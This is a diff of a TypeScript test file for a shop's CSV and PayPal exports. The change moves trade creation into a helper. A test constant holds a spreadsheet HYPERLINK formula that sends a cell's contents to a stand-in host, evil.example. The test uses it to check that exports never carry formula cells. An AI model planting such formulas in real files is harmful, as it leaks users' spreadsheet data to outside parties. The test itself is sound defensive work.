@@ -18,7 +18,7 @@ import { changeTradeState } from "../../core/trade/transitions.server.ts";
 import { partners, partnerStores } from "../../db/schema/index.ts";
 import { describeEachDatabase } from "../../tests/helpers/databases.ts";
 import { bearer, BACKOFFICE, makeStaff, staffTokens } from "../../tests/helpers/staff.ts";
-import { smartphoneOffer, uniqueClientAddress, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
+import { placeTestTrade, smartphoneOffer, uniqueClientAddress, uniqueTradeEmail } from "../../tests/helpers/trades.ts";
 import { staffEnvFrom } from "./backoffice/staff-env.server.ts";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Preis")';
@@ -102,21 +102,7 @@ describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
   it("the PayPal file never carries a cell a spreadsheet would run: such an address is left out of the run, listed, and the file has the others", async () => {
     const placed: string[] = [];
     for (let i = 0; i < 2; i++) {
-      const { offerId } = await smartphoneOffer(ctx());
-      const email = uniqueTradeEmail("formel");
-      const res = await ctx().request("/api/trade/trades", {
-        host: "de.localhost",
-        clientAddress: uniqueClientAddress(),
-        headers: { "idempotency-key": `csv-exports-${process.pid}-${++seq}` },
-        json: {
-          offers: [{ offerId, quantity: 1 }],
-          customer: { email, firstName: "Paula", lastName: "Pal" },
-          address: { street: "Hauptstraße", houseNumber: "1", zip: "10115", city: "Berlin", country: "DE" },
-          payment: { paymentType: 2, paypalEmail: `pp.${email}` },
-        },
-      });
-      expect(res.status).toBe(201);
-      const { tradeNumber } = (await res.json()) as { tradeNumber: string };
+      const { tradeNumber } = await placeTestTrade(ctx(), { paypal: true, email: uniqueTradeEmail("formel") });
       for (const to of ["received", "inspected", "payout_pending"] as const) await changeTradeState(ctx().database.db, { tradeNumber, to, actor: { kind: "system" }, reason: "test", now: new Date() });
       placed.push(tradeNumber);
     }
